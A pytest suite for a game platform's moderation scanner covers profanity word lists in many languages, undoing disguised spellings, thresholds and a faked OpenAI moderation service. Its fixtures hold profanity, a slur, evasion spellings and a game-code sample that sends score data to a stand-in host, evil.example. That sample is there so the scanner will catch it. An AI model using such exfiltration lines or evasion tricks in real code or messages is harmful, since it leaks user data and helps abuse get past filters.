"""The scanner: normalisation, word lists per language, the classifier, thresholds, game code, OpenAI."""

from __future__ import annotations

import pytest
from profanity_check import predict_prob

from gamefactory.content import content_check
from gamefactory.errors import ApplicationError
from moderation.models import ContentScan
from moderation.scanner import classifier, decide, scan_text
from moderation.scanner.normalize import text_forms
from tests.moderation.fake_moderation_server import FakeModerationServer
from tests.moderation.labelled import labelled_items


@pytest.mark.parametrize(
    ("text", "spelling"),
    [
        ("ｆｕｃｋ", "fuck"),  # fullwidth
        ("fսck", "fuck"),  # Armenian letter that looks Latin
        ("fuсk", "fuck"),  # Cyrillic с
        ("f.u.c.k", "fuck"),
        ("sh1t", "shit"),
        ("a$$hole", "asshole"),
        ("fuuuuuck", "fuck"),
        ("pütå", "puta"),
        ("f\u200buck", "fuck"),  # a zero-width space inside
    ],
)
def test_obfuscated_spellings_are_undone(text, spelling):
    # when
    forms = text_forms(text)
    # then
    assert spelling in set().union(*forms.words)


def test_single_letters_are_joined_and_numbers_stay_numbers():
    # when
    forms = text_forms("f u c k 2048 levels")
    # then
    assert "fuck" in forms.joined_runs
    assert "2048" in forms.words[4]


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("fuck this game", "en"),
        ("vete a la mierda", "es"),
        ("vai tomar no cu", "pt"),
        ("vaffanculo", "it"),
        ("fils de pute", "fr"),
        ("du Hurensohn", "de"),
        ("godverdomme", "nl"),
        ("kurwa", "pl"),
        ("siktir git", "tr"),
        ("сука блять", "ru"),
        ("まんこゲーム", "ja"),
        ("操你妈", "zh"),
        ("كس امك", "ar"),
    ],
)
def test_each_studio_language_has_a_word_list(text, language):
    # when
    result = scan_text(kind="prompt", text=text)
    # then
    assert result.action == "refuse", result
    assert f"wordlist:{language}" in result.labels or "wordlist" in result.scores


@pytest.mark.parametrize(
    "text",
    [
        "Steer a growing snake to the food. Each bite makes it longer.",  # French "bite"
        "I am a snake",  # Turkish "am"
        "un juego con serpientes",  # French "con"
        "jogo da aranha na floresta",
        "la regina dei pesci",
        "喝牛奶长高的游戏",  # 乳/奶 inside harmless words
        "Scunthorpe United",
        "assassin snake",
    ],
)
def test_ordinary_words_of_other_languages_are_not_flagged(text):
    # when
    result = scan_text(kind="prompt", text=text)
    # then
    assert result.action == "allow", result


def test_the_fast_classifier_gives_the_packages_own_probabilities():
    # given
    texts = [item.text for item in labelled_items()]
    model = classifier.model()
    # when
    ours = [model.probability(t) for t in texts]
    theirs = list(predict_prob(texts))
    # then
    assert ours == pytest.approx(theirs, abs=1e-9)


def test_thresholds_come_from_settings_per_kind_and_per_label(settings):
    # given
    settings.MODERATION_THRESHOLDS = {
        "default": {"hold": 0.5, "refuse": 0.9},
        "chat": {"hold": 0.6, "refuse": 0.8},
    }
    settings.MODERATION_LABEL_THRESHOLDS = {"openai:sexual/minors": {"hold": 0.05, "refuse": 0.1}}
    # when / then
    assert decide(kind="title", scores={"profanity": 0.7}) == ("hold", ["profanity"])
    assert decide(kind="title", scores={"profanity": 0.95}) == ("refuse", ["profanity"])
    assert decide(kind="title", scores={"profanity": 0.3}) == ("allow", [])
    # chat cannot wait for review: its hold refuses
    assert decide(kind="chat", scores={"profanity": 0.7}) == ("refuse", ["profanity"])
    assert decide(kind="title", scores={"openai:sexual/minors": 0.2}) == ("refuse", ["openai:sexual/minors"])


def test_chat_and_listing_have_sensible_thresholds():
    # when
    chat_clean = scan_text(kind="chat", text="gg, nice jump! rematch?")
    chat_rude = scan_text(kind="chat", text="fuck you noob")
    listing = scan_text(kind="listing", text="Neon Snake: 20 levels of fast fun")
    listing_rude = scan_text(kind="listing", text="shitty game for retards")
    # then
    assert (chat_clean.action, chat_rude.action) == ("allow", "refuse")
    assert (listing.action, listing_rude.action) == ("allow", "refuse")


def test_report_texts_are_scored_but_never_blocked():
    # when
    result = scan_text(kind="report", text="the title says fuck you to everyone")
    # then
    assert result.action == "allow"
    assert result.scores["wordlist"] == 1.0


def test_game_code_findings_become_labels():
    # given
    source = '"use strict";\nconst hooks = { onStart(ctx) { fetch("https://evil.example/" + ctx.score); ctx.say("shit"); } };\n'
    # when
    result = scan_text(kind="game_code", text=source)
    # then
    assert result.action == "refuse"
    assert "code:network" in result.labels
    assert result.scores["wordlist"] == 1.0  # the words it shows players are scanned too
    assert result.details["code"]


def test_clean_game_code_is_allowed():
    # given
    source = (
        '"use strict";\nconst hooks = { onScore(ctx, points) { ctx.say("Nice!"); return points * 2; } };\n'
    )
    # when / then
    assert scan_text(kind="game_code", text=source).action == "allow"


@pytest.mark.django_db
def test_every_decision_is_recorded_even_a_refusal():
    # when
    with pytest.raises(ApplicationError) as caught:
        content_check(kind="title", text="Shit Runner", field="title")
    allowed = content_check(kind="title", text="Neon Runner", field="title")
    # then
    assert caught.value.code == "content_refused"
    assert caught.value.fields["title"][0].startswith("This title is not allowed")
    scans = list(ContentScan.objects.order_by("created_at"))
    assert [(s.kind, s.action) for s in scans] == [("title", "refuse"), ("title", "allow")]
    assert scans[0].text == "Shit Runner" and "wordlist" in scans[0].labels
    assert str(scans[1].pk) == allowed.reference


@pytest.fixture
def openai_server(settings):
    server = FakeModerationServer().start()
    settings.OPENAI_API_KEY = "sk-test"
    settings.OPENAI_BASE_URL = server.url
    settings.LLM_MAX_RETRIES = 0
    yield server
    server.stop()


def test_openai_moderation_adds_its_13_categories(openai_server):
    # given
    openai_server.queue({"harassment": 0.97, "violence": 0.2})
    # when
    result = scan_text(kind="prompt", text="a game where everyone laughs at my classmate Tom")
    # then
    assert result.action == "refuse"
    assert "openai:harassment" in result.labels
    assert len([label for label in result.scores if label.startswith("openai:")]) == 13
    request = openai_server.requests[0]
    assert request["path"].endswith("/moderations") and request["auth"] == "Bearer sk-test"
    assert request["body"]["model"] == "omni-moderation-latest"


def test_openai_violence_in_games_only_holds_when_the_model_is_sure(openai_server):
    # given
    openai_server.queue({"violence": 0.6})
    openai_server.queue({"violence": 0.95})
    # when
    mild = scan_text(kind="prompt", text="shoot the zombies")
    sure = scan_text(kind="prompt", text="shoot the zombies and show the gore")
    # then
    assert mild.action == "allow"
    assert sure.action == "hold" and "openai:violence" in sure.labels


def test_openai_down_leaves_the_offline_verdict_and_says_so(openai_server):
    # given
    openai_server.queue(status=500)
    # when
    clean = scan_text(kind="prompt", text="a neon snake")
    # then
    assert clean.action == "allow"
    assert "openai:unavailable" in clean.labels


@pytest.mark.django_db(transaction=True)
def test_a_scan_made_outside_a_transaction_is_committed_in_one_statement(django_assert_num_queries):
    # given: no transaction open, as in a request before its own writes
    # when: one INSERT, committed at once
    with django_assert_num_queries(1):
        verdict = content_check(kind="title", text="Shit snake", field="title", raise_on_refuse=False)
    # then
    scan = ContentScan.objects.get(pk=verdict.reference)
    assert scan.action == "refuse" and scan.labels[:1] == ["wordlist"]
    assert scan.scores["wordlist"] == 1.0 and scan.details["wordlist"][0]["entry"] == "shit"
    assert scan.created_at is not None
